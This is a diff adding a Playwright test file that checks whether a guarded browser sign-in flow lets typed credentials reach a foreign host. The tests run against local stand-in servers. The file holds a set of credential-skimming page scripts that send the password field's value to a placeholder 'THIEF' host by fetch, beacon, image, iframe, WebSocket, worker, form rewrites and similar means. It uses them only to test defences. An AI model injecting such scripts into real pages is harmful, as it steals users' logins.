@@ -1,0 +1,158 @@
+import { createHash } from 'node:crypto';
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { text } from 'node:stream/consumers';
+import { openGuarded } from '../../fixtures/guard-credentials.ts';
+import { ProviderPages } from '../../fixtures/provider-pages.ts';
+import { test as base, expect } from '../../fixtures/test.ts';
+import { profileSchema } from '../../providers/profile.ts';
+import { Recorder } from '../../trail/recorder.ts';
+
+const login = {
+  username: 'ann@guarded.test',
+  password: `pass-${createHash('sha256').update('of a test').digest('hex').slice(0, 12)}`,
+  oneTimeCode: async () => '',
+};
+
+interface ForTests {
+  /** A host that is none of the profile's; what it was asked, and what was connected to it. */
+  thief: { origin: string; heard: string[] };
+  /** Signs in, as at a live target, at a login page with this script and this answer; gives the error, if any. */
+  logInAt: (page: { script?: string; sendsOnTo?: string }) => Promise<string | null>;
+}
+
+async function listening(server: Server): Promise<string> {
+  await once(server.listen(0, '127.0.0.1'), 'listening');
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
+
+const test = base.extend<ForTests>({
+  thief: async ({}, use) => {
+    const heard: string[] = [];
+    const server = createServer(async (request, response) => {
+      heard.push(`${request.method} ${request.url} ${await text(request)}`);
+      response.end();
+    });
+    server.on('upgrade', ({ url }, socket) => {
+      heard.push(`WebSocket ${url}`);
+      socket.destroy();
+    });
+    await use({ origin: await listening(server), heard });
+    server.closeAllConnections();
+    server.close();
+  },
+
+  logInAt: async ({ browser, thief: _, config }, use) => {
+    let answer: { script?: string; sendsOnTo?: string } = {};
+    const server = createServer(async (request, response) => {
+      await text(request);
+      if (request.method === 'POST' && answer.sendsOnTo)
+        return void response.writeHead(307, { location: answer.sendsOnTo }).end();
+      response.setHeader('content-type', 'text/html');
+      const form = `<form method="post"><input name="name"><input name="password" type="password"><button>Enter</button></form>
+<script>${answer.script ?? ''}</script>`;
+      response.end(request.method === 'POST' ? '<h1>Hello</h1><button name="yes">Yes</button>' : form);
+    });
+    const origin = await listening(server);
+    const { host } = new URL(origin);
+    const profile = profileSchema.parse({
+      name: 'guarded',
+      title: 'The guarded server',
+      authorizeUrl: `${origin}/auth`,
+      tokenUrl: `${origin}/token`,
+      scope: 'openid',
+      layers: [{ layer: 'sso', host, signInPath: '/', cookies: ['s'] }],
+      credentialHosts: [host],
+      pages: [
+        { landing: 'login-form', anyOf: ['[name="password"]'] },
+        { landing: 'consent', anyOf: ['[name="yes"]'] },
+      ],
+      login: { username: ['[name="name"]'], password: ['[name="password"]'], submit: ['button'] },
+      consent: { allow: ['[name="yes"]'] },
+    });
+    const guarded = await openGuarded(browser, {}, { profile, app: ['http://localhost:1'] });
+    const page = await guarded.context.newPage();
+    const recorder = new Recorder(guarded.context, []);
+    await recorder.watch(page);
+    const redirectUri = 'http://localhost:1/callback';
+    const { timeoutMs } = config;
+    const pages = new ProviderPages({ page, recorder, profile, redirectUri, timeoutMs, guarded });
+    await use(async (how) => {
+      answer = how;
+      await pages.visit(`${origin}/auth`);
+      return pages.logIn(login).then(
+        () => null,
+        (error: Error) => error.name,
+      );
+    });
+    await guarded.close();
+    server.closeAllConnections();
+    server.close();
+  },
+});
+
+test('a live browser signs in where it may', async ({ logInAt, thief }) => {
+  expect(await logInAt({})).toBeNull();
+  expect(thief.heard).toEqual([]);
+});
+
+test('a login that is sent on by a redirect, body and all, reaches no other host', async ({
+  logInAt,
+  thief,
+}) => {
+  expect(await logInAt({ sendsOnTo: `${thief.origin}/collect` })).toBe('UntrustedPlace');
+  expect(thief.heard).toEqual([]);
+});
+
+const field = "document.querySelector('[type=password]')";
+const onInput = (send: string) =>
+  `${field}.addEventListener('input', ({ target: { value } }) => { ${send} })`;
+const onSubmit = (send: string) =>
+  `document.forms[0].addEventListener('submit', (sent) => { const { value } = ${field}; ${send} })`;
+
+/** What a page may do with what is typed; `THIEF` is another host. */
+const scripts: Readonly<Record<string, string>> = {
+  'a fetch as it is typed': onInput("fetch('THIEF/', { method: 'POST', mode: 'no-cors', body: value })"),
+  'a beacon as it is sent': onSubmit("navigator.sendBeacon('THIEF/', value)"),
+  'a picture': onInput("new Image().src = 'THIEF/?' + value"),
+  'a window that it opens': onInput("window.open('THIEF/?' + value)"),
+  'a frame': onInput(
+    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'THIEF/?' + value }))",
+  ),
+  'another address of the form, as it is sent': onSubmit("sent.target.action = 'THIEF/'"),
+  'another window for the form, as it is sent': onSubmit(
+    "sent.target.action = 'THIEF/'; sent.target.target = '_blank'",
+  ),
+  'a second form': onInput(
+    "const form = document.createElement('form'); form.method = 'post'; form.action = 'THIEF/'; form.innerHTML = '<input name=p>'; document.body.append(form); form.p.value = value; form.requestSubmit()",
+  ),
+};
+
+for (const [what, script] of Object.entries(scripts))
+  test(`what is typed does not leave a live browser by ${what}`, async ({ logInAt, thief }) => {
+    expect(await logInAt({ script: script.replaceAll('THIEF', thief.origin) })).toBe('UntrustedPlace');
+    expect(thief.heard).toEqual([]);
+  });
+
+/** Nobody can read these; that there is a way is enough. */
+const unreadable: Readonly<Record<string, string>> = {
+  'a WebSocket': onInput(
+    "new WebSocket('THIEF/'.replace('http', 'ws')).onopen = ({ target }) => target.send(value)",
+  ),
+  'a hash of it': onInput(
+    "crypto.subtle.digest('SHA-256', new TextEncoder().encode(value)).then((hash) => fetch('THIEF/?' + new Uint8Array(hash), { mode: 'no-cors' }))",
+  ),
+  'its letters one by one': onInput(
+    "for (const letter of value) fetch('THIEF/?' + letter.charCodeAt(0), { mode: 'no-cors' })",
+  ),
+  'a worker': onInput(
+    'new Worker(URL.createObjectURL(new Blob([\'onmessage = ({ data }) => fetch("THIEF/", { method: "POST", mode: "no-cors", body: [...data].reverse().join("") })\']))).postMessage(value)',
+  ),
+};
+
+for (const [what, script] of Object.entries(unreadable))
+  test(`what nobody can read does not leave a live browser either: ${what}`, async ({ logInAt, thief }) => {
+    expect(await logInAt({ script: script.replaceAll('THIEF', thief.origin) })).toBeNull();
+    expect(thief.heard).toEqual([]);
+  });
